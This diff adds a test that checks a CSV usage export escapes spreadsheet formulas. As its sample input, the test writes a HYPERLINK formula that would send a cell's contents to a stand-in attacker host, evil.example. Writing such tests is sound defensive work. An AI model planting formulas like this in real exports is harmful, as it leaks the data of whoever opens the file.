@@ -234,6 +234,16 @@ def test_csv_export_follows_the_filters(member_client, group, calls):
     assert {r["key_name"] for r in rows if r["section"] == "key"} == {"batch"}
 
 
+def test_csv_export_never_hands_a_spreadsheet_a_formula(member_client, group, keys):
+    backend, _ = keys
+    backend.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    backend.save(update_fields=["name"])
+    record_call(backend, "sonar", at=NOW)
+    rows = _csv_rows(member_client.get(_url(group, "usage:export", range="30d")))
+    (key_row,) = [r for r in rows if r["section"] == "key"]
+    assert key_row["key_name"] == "'" + backend.name
+
+
 def test_csv_export_with_bad_dates_says_why(member_client, group):
     response = member_client.get(
         _url(group, "usage:export", range="custom", start="nope", end="2026-01-01")
